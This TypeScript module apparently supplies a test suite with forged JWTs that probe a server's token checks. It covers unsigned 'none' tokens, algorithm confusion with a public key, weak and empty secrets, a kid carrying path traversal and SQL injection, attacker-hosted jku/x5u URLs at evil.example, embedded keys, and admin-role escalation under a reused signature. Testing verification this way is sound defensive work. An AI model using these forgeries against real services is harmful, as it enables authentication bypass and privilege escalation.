import { createSign, generateKeyPairSync, type KeyObject } from "node:crypto";
import {
  FILE_SECRET,
  HEADER,
  SIGNING_SECRET,
  bearer,
  encode,
  forge,
  type Attack,
  type Json,
} from "./forge-token";

function forgeWithKey(header: Json, claims: Json, key: KeyObject): string {
  const signed = `${encode(header)}.${encode(claims)}`;
  return `${signed}.${createSign("sha256").update(signed).sign({ key, dsaEncoding: "ieee-p1363" }, "base64url")}`;
}

const rsa = generateKeyPairSync("rsa", { modulusLength: 2048 });
const elliptic = generateKeyPairSync("ec", { namedCurve: "P-256" });
const publicPem = rsa.publicKey.export({ type: "spki", format: "pem" }).toString();
const OTHER = "a secret the attacker made up, of 32+ characters";
const unsigned = (alg: unknown, claims: Json) => bearer(`${encode({ alg, typ: "JWT" })}.${encode(claims)}.`);
const withHeader = (more: Json, claims: Json, secret = OTHER) =>
  bearer(forge({ ...HEADER, ...more }, claims, secret));

/** Not signed, or signed by whoever. */
export const BY_SIGNATURE: Record<string, Attack> = {
  ...Object.fromEntries(
    ["none", "None", "NONE", "nOnE", "", null, "HS0"].map((alg): [string, Attack] => [
      `alg ${JSON.stringify(alg)}, unsigned`,
      ({ claims }) => unsigned(alg, claims),
    ]),
  ),
  "alg none, signed well": ({ claims }) => withHeader({ alg: "none" }, claims, SIGNING_SECRET),
  "alg hs256, signed well": ({ claims }) => withHeader({ alg: "hs256" }, claims, SIGNING_SECRET),
  "alg HS512 of the same secret": ({ claims }) =>
    bearer(forge({ ...HEADER, alg: "HS512" }, claims, SIGNING_SECRET, "sha512")),
  "an empty secret": ({ claims }) => withHeader({}, claims, ""),
  "another secret": ({ claims }) => withHeader({}, claims),
  "the secret of the file links": ({ claims }) => withHeader({}, claims, FILE_SECRET),
  "a secret everybody knows": ({ claims }) => withHeader({}, claims, "secret"),
  "RS256 with the attacker's key": ({ claims }) =>
    bearer(forgeWithKey({ ...HEADER, alg: "RS256" }, claims, rsa.privateKey)),
  "ES256 with the attacker's key": ({ claims }) =>
    bearer(forgeWithKey({ ...HEADER, alg: "ES256" }, claims, elliptic.privateKey)),
  "RS256 over the shared secret": ({ claims }) => withHeader({ alg: "RS256" }, claims, SIGNING_SECRET),
  "HS256 over a public key": ({ claims }) => withHeader({}, claims, publicPem),
  "a kid that names an empty file": ({ claims }) => withHeader({ kid: "../../../../dev/null" }, claims, ""),
  "a kid with SQL": ({ claims }) => withHeader({ kid: `x' UNION SELECT '${OTHER}` }, claims),
  "a jku of the attacker": ({ claims }) => withHeader({ jku: "https://evil.example/jwks.json" }, claims),
  "a jwk brought along": ({ claims }) => withHeader({ jwk: { kty: "oct", k: encode(OTHER) } }, claims),
  "an x5u of the attacker": ({ claims }) => withHeader({ x5u: "https://evil.example/cert.pem" }, claims),
  "an x5c brought along": ({ claims }) =>
    withHeader({ x5c: [publicPem.replace(/-----[^-]+-----|\n/g, "")] }, claims),
  "crit of something unknown": ({ claims }) => withHeader({ crit: ["exp"] }, claims, SIGNING_SECRET),
  "typ of another kind of token": ({ claims }) => withHeader({ typ: "at+jwt" }, claims, SIGNING_SECRET),
  "another role, signed with another secret": ({ claims }) =>
    withHeader({}, { ...claims, userType: "admin" }),
  "another role under the good signature": ({ genuine, claims }) => {
    const [head, , signature] = genuine.split(".");
    return bearer(`${head}.${encode({ ...claims, userType: "admin" })}.${signature}`);
  },
};
